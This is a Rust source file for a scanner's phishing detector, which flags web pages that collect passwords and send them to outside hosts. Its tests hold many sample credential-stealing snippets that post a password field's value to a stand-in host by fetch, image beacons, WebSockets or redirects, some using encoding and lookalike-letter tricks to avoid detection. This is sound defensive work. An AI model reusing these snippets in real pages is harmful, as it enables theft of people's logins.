//! Pages that ask for a password and send it to a server, and where pages lead by themselves.

use std::borrow::Cow;
use std::collections::BTreeSet;
use std::sync::LazyLock;

use memchr::memmem;

use super::place::{Place, plain};
use super::{Analyzer, Findings, Found, Look, Sees};
use crate::formats::html::{self, Page, Tag};
use crate::formats::page_sends::Sends;
use crate::model::{Family, IocType, Kind};
use crate::text::{self, AnyOf};

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "credential_form",
    kinds: &[Kind::Html, Kind::Svg, Kind::Hta, Kind::Js],
    sees: Sees::Place,
    findings: &["credential-form"],
    run,
};

/// Tags that are looked at.
const READ: &[&str] = &[
    "input", "textarea", "form", "button", "base", "meta", "iframe", "frame",
];

/// A property of CSS with which letters look like those of a password.
const MASKED: &str = "text-security";

/// What a page says, in lower case, that asks for a password or leads somewhere.
static ASKS: LazyLock<AnyOf> = LazyLock::new(|| {
    AnyOf::new(&[
        "passw",
        "pswd",
        "\"pass\"",
        "'word'",
        "\"word\"",
        "refresh",
        "<iframe",
        "<form",
        "location",
        "prompt(",
        MASKED,
        "textsecurity",
    ])
});

fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let artifact = look.artifact;
    let in_document = look
        .parent()
        .is_some_and(|parent| matches!(parent.kind.family(), Family::Ooxml | Family::Odf));
    let page = matches!(artifact.kind, Kind::Html | Kind::Svg | Kind::Hta);
    // What a script of a page puts together may be the page.
    let written = artifact.kind == Kind::Js
        && artifact.via == Some("decoded-text")
        && look
            .ancestors()
            .any(|above| above.via == Some("script-block"));
    if !page && !written || in_document {
        return;
    }
    let data = &artifact.data;
    // Texts of two bytes a character are rare, and read whole.
    let wide = data.starts_with(b"\xff\xfe") || data.starts_with(b"\xfe\xff");
    let page = Page::of(&artifact.data, artifact.sha256);
    if !wide && !ASKS.is_in(page.lower().as_bytes()) {
        return;
    }
    let source = page.text();
    let Written {
        password,
        target,
        own,
    } = Written::of(look, &page, findings);
    let sends = Sends::of(source);
    let mut sent = scripted(look, &sends);
    let shown: Vec<String> = sends
        .pictures()
        .chain(sends.fetched())
        .filter_map(|text| outside(look, text))
        .collect();
    let mut posts = sends.send() || !shown.is_empty();
    sent.extend(shown);
    for address in &sent {
        findings.ioc(IocType::Url, address);
    }
    let prompted = prompted(look, &sends);
    posts |= prompted.is_some();
    let password = password
        .or_else(|| sends.password_field())
        .or(prompted)
        .or_else(|| password_in_scripts(look));
    let Some(at) = password else {
        return;
    };
    let mut handed: Vec<String> = Vec::new();
    if target.is_none() && (!posts || sent.is_empty()) {
        let addresses = sends.handed().into_iter();
        handed.extend(addresses.filter_map(|text| outside(look, text)));
        for address in &handed {
            findings.ioc(IocType::Url, address);
        }
    }
    if target.is_none() && sent.is_empty() && handed.is_empty() {
        sent = in_scripts(look);
    }
    let target = target
        .or_else(|| handed.into_iter().next())
        .or_else(|| sent.into_iter().next().filter(|_| posts))
        .or_else(|| collector(look, &page).filter(|_| !own || is_held(&page)));
    let Some(target) = target else {
        return;
    };
    findings.report(Found::new("credential-form", &format!("password sent to {target}")).at(at));
}

/// What the tags of a page ask for, and where they send it.
struct Written {
    /// Where a field for a password stands.
    password: Option<usize>,
    /// Where a form leads outside.
    target: Option<String>,
    /// Whether a form leads to a place of the page's own site.
    own: bool,
}

impl Written {
    /// Addresses that the page leads to are kept on the way.
    fn of(look: &Look<'_>, page: &Page, findings: &mut Findings<'_>) -> Self {
        let asked = Asked::of(look, page);
        let mut password = None;
        let mut target = None;
        let (mut base, mut by_base) = (None, false);
        let mut own = false;
        for tag in asked.tags(page) {
            if password.is_none() && asked.is_password(&tag) {
                password = Some(tag.at);
            }
            match tag.name.as_ref() {
                "form" | "button" | "input" => {
                    let name = if tag.name == "form" {
                        "action"
                    } else {
                        "formaction"
                    };
                    let action = tag.attribute(name);
                    let action = action.as_deref();
                    if let Some(address) = action.and_then(|value| outside(look, value)) {
                        findings.ioc(IocType::Url, &address);
                        target.get_or_insert(address);
                    } else if let Some(address) = action.filter(|value| is_mail(value)) {
                        target.get_or_insert(plain(address));
                    } else {
                        own |= action.is_some_and(|value| !matches!(value.trim(), "" | "#"));
                    }
                    by_base |=
                        tag.name == "form" && action.is_none_or(|value| !value.starts_with('#'));
                }
                // Where every address of the page that names no host leads (HTML Standard, 4.2.3).
                "base" => {
                    let address = tag.attribute("href");
                    let address = address.and_then(|value| outside(look, &value));
                    base = base.or(address);
                }
                "meta" => {
                    if let Some(address) =
                        html::refresh(&tag).and_then(|value| outside(look, &value))
                    {
                        findings.ioc(IocType::Url, &address);
                    }
                }
                "iframe" | "frame" => {
                    if let Some(address) =
                        tag.attribute("src").and_then(|value| outside(look, &value))
                    {
                        findings.ioc(IocType::Url, &address);
                    }
                }
                _ => {}
            }
        }
        if let Some(base) = base.filter(|_| by_base) {
            findings.ioc(IocType::Url, &base);
            target.get_or_insert(base);
        }
        Self {
            password,
            target,
            own,
        }
    }
}

/// Where a script asks for a password in a window of its own.
fn prompted(look: &Look<'_>, sends: &Sends<'_>) -> Option<usize> {
    let mut asked = sends.prompts();
    let found = asked.find(|(_, text)| says_secret(look, text));
    found.map(|(at, _)| at)
}

/// A service that takes what pages of others send it, where a script of the page names one.
fn collector(look: &Look<'_>, page: &Page) -> Option<String> {
    let lower = page.lower().as_bytes();
    let scripts = page.scripts().iter();
    let mut scripts = scripts.filter_map(|(range, _)| lower.get(range.clone()));
    scripts.find_map(|script| {
        let services = &look.knowledge.links.collectors;
        let mut named = services
            .iter()
            .filter(|name| memmem::find(script, name.as_bytes()).is_some());
        named.next().cloned()
    })
}

/// Whether a script keeps a form from being sent to where it leads.
fn is_held(page: &Page) -> bool {
    let lower = page.lower().as_bytes();
    ["preventdefault", "onsubmit", "return false"]
        .iter()
        .any(|word| memmem::find(lower, word.as_bytes()).is_some())
}

/// Where a script that the page's scripts put together makes a field one for passwords: at the start of the page.
fn password_in_scripts(look: &Look<'_>) -> Option<usize> {
    let made = built(look).any(|source| Sends::of(&source).password_field().is_some());
    made.then_some(0)
}

/// Addresses in what the page's scripts put together.
fn in_scripts(look: &Look<'_>) -> Vec<String> {
    built(look)
        .flat_map(|source| scripted(look, &Sends::of(&source)))
        .collect()
}

/// What the page's scripts put together.
fn built<'a>(look: &Look<'a>) -> impl Iterator<Item = Cow<'a, str>> {
    /// Scripts that are looked at: pages that steal something have one or two.
    const SCRIPTS: usize = 16;
    let look = *look;
    let below = move |artifact| Look { artifact, ..look }.children();
    let scripts = below(look.artifact)
        .iter()
        .filter(|child| child.via == Some("script-block"));
    let built = scripts
        .take(SCRIPTS)
        .flat_map(move |script| below(script).iter().take(SCRIPTS));
    built
        .filter(|child| child.kind == Kind::Js)
        .map(|child| text::to_utf8(&child.data))
}

/// What tells a field for a password on one page.
struct Asked<'a> {
    look: Look<'a>,
    page: &'a Page,
    /// Names of classes and fields whose letters CSS hides, and of elements where it hides those of all.
    masked: BTreeSet<String>,
    /// Whether CSS or a script hides letters anywhere.
    masks: bool,
}

impl<'a> Asked<'a> {
    fn of(look: &Look<'a>, page: &'a Page) -> Self {
        /// Rules of CSS that are looked at, and bytes of what one is for.
        const RULES: usize = 16;
        const SELECTOR: usize = 200;
        let lower = page.lower();
        let mut masked = BTreeSet::new();
        let mut masks = false;
        for at in memmem::find_iter(lower.as_bytes(), MASKED).take(RULES) {
            masks = true;
            let before = lower.get(..at).unwrap_or_default();
            let Some(open) = before.rfind(['{', '}', '<', '"', '\'']) else {
                continue;
            };
            if !before.get(open..).is_some_and(|rest| rest.starts_with('{')) {
                continue;
            }
            let before = before.get(..open).unwrap_or_default();
            let from = before.ceil_char_boundary(before.len().saturating_sub(SELECTOR));
            let selector = before.get(from..).unwrap_or_default();
            let selector = selector.rsplit(['}', '>', ';', '/']).next();
            let names = selector
                .unwrap_or_default()
                .split(|c: char| !c.is_alphanumeric() && c != '-' && c != '_');
            masked.extend(names.filter(|name| !name.is_empty()).map(str::to_owned));
        }
        masks |= memmem::find(lower.as_bytes(), b"webkittextsecurity").is_some();
        Self {
            look: *look,
            page,
            masked,
            masks,
        }
    }

    /// The tags that are looked at: what CSS hides may be typed into any.
    fn tags(&self, page: &'a Page) -> Box<dyn Iterator<Item = Tag<'a>> + 'a> {
        if self.masks {
            Box::new(page.tags())
        } else {
            Box::new(page.tags_named(READ))
        }
    }

    /// A field for a password, also one that only looks like another.
    fn is_password(&self, tag: &Tag<'_>) -> bool {
        let value = |name| tag.attribute(name).unwrap_or_default().to_ascii_lowercase();
        let kind = value("type");
        let kind = kind.trim().trim_end_matches('/');
        let input = tag.name == "input";
        if input && kind == "password" {
            return true;
        }
        let typed = match tag.name.as_ref() {
            "input" => matches!(kind, "" | "text" | "tel" | "number"),
            "textarea" => true,
            _ => self.masks && tag.attribute("contenteditable").is_some(),
        };
        if !typed {
            return false;
        }
        self.is_masked(tag) || input && (self.asks_for_secret(tag) || self.is_labelled(tag))
    }

    /// Whether CSS hides the letters of a field as those of a password.
    fn is_masked(&self, tag: &Tag<'_>) -> bool {
        if !self.masks {
            return false;
        }
        let value = |name| tag.attribute(name).unwrap_or_default().to_ascii_lowercase();
        let style = value("style");
        let own = style.split_once(MASKED);
        if let Some((_, set)) = own {
            return !set.trim_start_matches([' ', ':']).starts_with("none");
        }
        let named = |name: &str| self.masked.contains(name);
        // A script that hides them does so for a field that it finds by its name.
        named(&tag.name)
            || named(&value("id"))
            || named(&value("name"))
            || value("class").split_whitespace().any(named)
            || self.masked.is_empty() && says_secret(&self.look, &value("name"))
    }

    /// Whether a field in plain sight asks for what nobody sends in a form of a mail: what browsers would fill into it
    /// (HTML Standard, 4.10.18.7 "Autofill"), or what it says itself.
    fn asks_for_secret(&self, tag: &Tag<'_>) -> bool {
        const FILLED: [&str; 4] = ["current-password", "new-password", "cc-number", "cc-csc"];
        let filled = tag.attribute("autocomplete").unwrap_or_default();
        let mut filled = filled.split_ascii_whitespace();
        filled.any(|token| FILLED.iter().any(|one| token.eq_ignore_ascii_case(one)))
            || ["placeholder", "aria-label"].iter().any(|name| {
                let said = tag.attribute(name).unwrap_or_default();
                says_secret(&self.look, &said)
            })
    }

    /// Whether what stands in front of a field is the word for a password, and nothing else.
    fn is_labelled(&self, tag: &Tag<'_>) -> bool {
        /// Bytes in front of a field that may be its label with its tags.
        const LABEL: usize = 160;
        let source = self.page.text();
        let before = source.get(..tag.at).unwrap_or_default();
        let from = before.ceil_char_boundary(before.len().saturating_sub(LABEL));
        let before = before.get(from..).unwrap_or_default();
        let mut texts = before.rsplit('<').filter_map(|piece| {
            let text = piece.rsplit('>').next().unwrap_or_default();
            let text = text.trim_matches(|c: char| !c.is_alphanumeric() && c != 'ー');
            (!text.is_empty() && piece.contains('>')).then_some(text)
        });
        // Another field in between has this text for its label.
        let nearest = texts.next().unwrap_or_default();
        let at = before.rfind(nearest).unwrap_or_default();
        let between = before.get(at..).unwrap_or_default().to_ascii_lowercase();
        let said = shown_letters(nearest);
        !between.contains("<input") && self.look.knowledge.links.secrets.contains(&said)
    }
}

/// Letters of a text in lower case, without those that nobody sees, in the letters that they look like.
fn shown_letters(text: &str) -> String {
    let seen = text.chars().filter(|c| {
        !matches!(
            c,
            '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}'
        )
    });
    text::plain_letters(&seen.collect::<String>())
}

/// Whether a text asks for what nobody else is to know.
fn says_secret(look: &Look<'_>, said: &str) -> bool {
    if said.is_empty() {
        return false;
    }
    let said = shown_letters(said);
    let mut secrets = look.knowledge.links.secrets.iter();
    secrets.any(|word| said.contains(word.as_str()))
}

/// Whether a form is sent by mail.
fn is_mail(action: &str) -> bool {
    let scheme = action.trim_start().get(..7);
    scheme.is_some_and(|scheme| scheme.eq_ignore_ascii_case("mailto:"))
}

/// An address on the web, in the form in which it is fetched.
fn outside(look: &Look<'_>, value: &str) -> Option<String> {
    let target = plain(value);
    let protocol_relative = target.starts_with("//") || target.starts_with("/\\");
    let scheme = target.split_once("://").map_or("", |(scheme, _)| scheme);
    let socket = ["ws", "wss"]
        .iter()
        .any(|one| scheme.eq_ignore_ascii_case(one));
    let web = || Place::of(&target, &look.knowledge.links) == Place::Web;
    (protocol_relative || socket || web()).then_some(target)
}

/// Addresses to which a script of the page goes or sends something.
fn scripted(look: &Look<'_>, sends: &Sends<'_>) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for mut texts in sends.leads() {
        let address = texts.find_map(|text| outside(look, text));
        if let Some(address) = address.filter(|address| !found.contains(address)) {
            found.push(address);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::super::tests::{holding, run as run_on};
    use super::*;

    fn found(page: &str) -> (usize, usize) {
        let (findings, iocs) = run_on(run, &[holding(Kind::Html, page.as_bytes())]);
        (findings.len(), iocs.len())
    }

    #[test]
    fn passwords_that_leave_are_found_and_those_that_stay_are_not() {
        for page in [
            "<form action=\"https://login.example.invalid/p.php\" method=post><input type=password name=p></form>",
            "<form><input type='PASSWORD'></form><script>fetch('https://login.example.invalid/', {method: 'POST'})</script>",
            "<script>document.write(\"<form action=\\\"//login.example.invalid/\\\"><input type=\\\"password\\\">\")</script>",
            "<script>x.open('POST', 'https://login.example.invalid/'); new XMLHttpRequest()</script><input type=password>",
            "<base href=\"https://login.example.invalid/\"><form action=p.php method=post><input type=password></form>",
            "<input type=password id=p><script>new Image().src = 'https://login.example.invalid/?p=' + p.value</script>",
            "<form action='https://login.example.invalid/'><input id=q></form><script>q.setAttribute('type', 'password')</script>",
            "<form action='https://login.example.invalid/'><input name=b placeholder='パスワード'></form>",
            "<form action='https://login.example.invalid/'><input type=tel placeholder='暗証番号(4桁)'></form>",
            "<form action='https://login.example.invalid/'><input autocomplete='section-a cc-csc'></form>",
            "<form action=https&colon;//login.example.invalid/><input type=&#112assword></form>",
            "<input type=password id=p><script>s.src = 'https://login.example.invalid/a.js?p=' + p.value</script>",
            "<input type=password><script>s = new WebSocket('wss://login.example.invalid/s')</script>",
            "<input type=password id=p><script>$.get('https://login.example.invalid/', {p: $('#p').val()})</script>",
            "<input type=password><script>navigator['sendBeacon']('https://login.example.invalid/', d)</script>",
            "<form id=f><input type=password></form><script>f.action = 'https://login.example.invalid/'</script>",
            "<form id=f><input type=password></form><script>f.setAttribute('action', 'https://login.example.invalid/')</script>",
            "<form id=f><input type=password></form><script>const to = 'https://login.example.invalid/'; f.action = to</script>",
            "<input type=password id=p><script>location.href = 'https://login.example.invalid/?p=' + p.value</script>",
            "<script>a = prompt('Your password'); fetch('https://login.example.invalid/?p=' + a)</script>",
            "<style>.x{-webkit-text-security:disc}</style><form action='https://login.example.invalid/'><input class=x></form>",
            "<form action='https://login.example.invalid/'><input style='-webkit-text-security: disc'></form>",
            "<form action='https://login.example.invalid/'><input placeholder='Pass&shy;word'></form>",
            "<form action='https://login.example.invalid/'><label>Pa\u{455}sword:</label><br><input name=b></form>",
            "<form action='/\\login.example.invalid/'><input type=password/></form>",
            "<script>i = h('input', {type: 'password'}); fetch('https://login.example.invalid/')</script>",
        ] {
            assert_eq!(found(page), (1, 1), "{page}");
        }
        for page in [
            "<form action=\"/login\"><input type=password></form>",
            "<form action=\"https://www.example.com/search\"><input name=q></form>",
            "<form action='https://www.example.com/in'><input placeholder='お名前' autocomplete=name></form>",
            "<form action='https://www.example.com/in'><input type=hidden placeholder=Password></form>",
            "<form action=/in><input placeholder='パスワード'></form>",
            "<p>Your password has been changed: <a href=\"https://www.example.com/\">see</a></p>",
            "<form><input type=password></form>",
            "<base href=\"https://www.example.com/\"><form action=search><input name=q></form>",
            "<base href=\"/app/\"><form action=p><input type=password></form>",
            "<form action=/in><input type=password></form><script>$.get('https://www.example.com/news.json', show); p.value = 1</script>",
            "<script>a = prompt('Your name'); fetch('https://www.example.com/?n=' + a)</script>",
            "<p>Do not use prompt('password').</p><a href='https://www.example.com/'>a</a>",
            "<form id=f><input name=q></form><script>f.action = 'https://www.example.com/search'</script>",
            "<style>.x{-webkit-text-security:disc}</style><form action='https://www.example.com/'><input class=y></form>",
            "<form action='https://www.example.com/'><p>Forgot your password?</p><label>Mail</label><input name=mail></form>",
            "<form action='https://www.example.com/'>Password<input type=hidden><input name=q></form>",
            "<input type=password><script>logo.src = 'https://www.example.com/logo.png'</script>",
            "<form action=/in><input type=password></form><script>j.src = 'https://www.example.com/tags.js?id=' + i + dl; p.value = 1</script>",
        ] {
            assert_eq!(found(page).0, 0, "{page}");
        }
    }

    #[test]
    fn services_that_take_what_pages_send_are_known() {
        let page = |script: &str| {
            found(&format!(
                "<form onsubmit='s()' action=/in><input type=password id=p></form><script>{script}</script>"
            ))
        };
        assert_eq!(page("emailjs.send('a', 'b', {p: p.value})").0, 1);
        assert_eq!(page("emailjs.init('a')").0, 0);
        assert_eq!(
            found("<script>emailjs.send('a', 'b', {q: q.value})</script>").0,
            0
        );
        // A site's own form, and a service that is only spoken of.
        for page in [
            "<form action=/in><input type=password></form><script>c = 'https://a.firebaseio.com'</script>",
            "<p>Post to hooks.slack.com/services</p><form><input type=password></form>",
            "<script>d = {\"type\": \"password\"}; location.href = 'https://www.example.com/'; new XMLHttpRequest()</script>",
        ] {
            assert_eq!(found(page).0, 0, "{page}");
        }
    }

    #[test]
    fn a_form_that_is_sent_by_mail_is_found() {
        let page = "<form action=\"mailto:a@example.invalid\"><input type=password></form>";
        assert_eq!(found(page).0, 1);
        assert_eq!(
            found("<form action=\"mailto:a@example.invalid\"><input name=q></form>").0,
            0
        );
    }

    #[test]
    fn where_a_page_leads_is_kept() {
        assert_eq!(
            found("<META HTTP-EQUIV=Refresh content=\"0;URL='https://example.invalid/a'\">"),
            (0, 1)
        );
        assert_eq!(
            found("<script>window.location.href = \"https://example.invalid/\";</script>"),
            (0, 1)
        );
        assert_eq!(found("<meta http-equiv=refresh content=\"30\">"), (0, 0));
    }
}
